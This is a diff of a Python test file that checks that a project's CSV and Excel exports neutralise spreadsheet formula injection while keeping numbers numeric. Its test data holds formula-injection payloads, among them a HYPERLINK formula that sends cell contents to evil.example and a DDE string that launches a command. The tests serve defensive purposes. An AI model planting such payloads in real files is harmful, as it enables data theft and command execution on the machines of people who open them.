@@ -1,4 +1,7 @@
-"""CSV and Excel files the project writes are safe to open in a spreadsheet; numbers stay numbers."""
+"""CSV and Excel files the project writes are safe to open in a spreadsheet; numbers stay numbers.
+
+The rule is :mod:`journeylib.safecells` (one for the whole project); these tests open the written
+files with a CSV reader and with openpyxl."""
 
 from __future__ import annotations
 
@@ -15,10 +18,11 @@ from typer.testing import CliRunner
 
 from journeylib.cli import app
 from journeylib.exports import FORMULA_START, neutralise, safe_text, write_table
+from journeylib.safecells import restore
 
 PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
             "\t=1+1", "\r=1+1", "=1+1", "-", "+"]
-NUMBERS = ["-3", "+4", "-2.5", "1e3", "-.5"]
+NUMBERS = [-3.0, 4.0, -2.5, 1e3, -0.5]  # a numeric column
 
 
 def cells_csv(path) -> list[list[str]]:
@@ -33,18 +37,16 @@ def cells_xlsx(path) -> list[list]:
 
 
 def test_payloads_neutralised_numbers_kept(tmp_path):
-    df = pl.DataFrame({"=evil": PAYLOADS + NUMBERS, "n": list(range(-7, len(PAYLOADS) + len(NUMBERS) - 7)),
-                       "x": [1.5] * (len(PAYLOADS) + len(NUMBERS))})
+    df = pl.DataFrame({"=evil": PAYLOADS, "n": list(range(-7, len(PAYLOADS) - 7)),
+                       "x": NUMBERS + [1.5] * (len(PAYLOADS) - len(NUMBERS))})
     rows = cells_csv(write_table(df, tmp_path / "t.csv"))
     assert rows[0] == ["'=evil", "n", "x"]
-    for text in [r[0] for r in rows[1:]]:
-        assert not text.startswith(FORMULA_START) or text in NUMBERS
-    assert [r[0] for r in rows[1:len(PAYLOADS) + 1]] == ["'" + p for p in PAYLOADS]
-    assert [r[0] for r in rows[len(PAYLOADS) + 1:]] == NUMBERS and rows[1][1] == "-7"
+    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS]
+    assert rows[1][1] == "-7" and [float(r[2]) for r in rows[1:len(NUMBERS) + 1]] == NUMBERS  # numbers unquoted
     xl = cells_xlsx(write_table(df, tmp_path / "t.xlsx"))
     assert all(dtype != "f" for row in xl for _, dtype in row)  # no formula cell anywhere
-    assert xl[1][0] == ("'" + PAYLOADS[0], "s") and xl[1][1] == (-7, "n") and xl[1][2] == (1.5, "n")
-    assert [v for (v, _), *_ in xl[len(PAYLOADS) + 1:]] == NUMBERS
+    assert xl[1][0] == ("'" + PAYLOADS[0], "s") and xl[1][1] == (-7, "n") and xl[1][2] == (-3.0, "n")
+    assert [row[2] for row in xl[1:len(NUMBERS) + 1]] == [(v, "n") for v in NUMBERS]
 
 
 @given(st.text(max_size=12))
@@ -52,8 +54,8 @@ def test_payloads_neutralised_numbers_kept(tmp_path):
 def test_no_text_a_spreadsheet_would_run_survives(text):
     out = neutralise(pl.DataFrame({"c": [text]}))["c"][0]
     assert out == safe_text(text)
-    assert not out.startswith(FORMULA_START) or safe_text(out) == out  # only plain numbers start so
-    assert out.removeprefix("'") == text
+    assert not out.startswith(FORMULA_START)
+    assert restore(out) == text  # lossless: the project reads its own files back
 
 
 def test_metrics_export_with_hostile_learner_attribute(tmp_path, sample_dir):
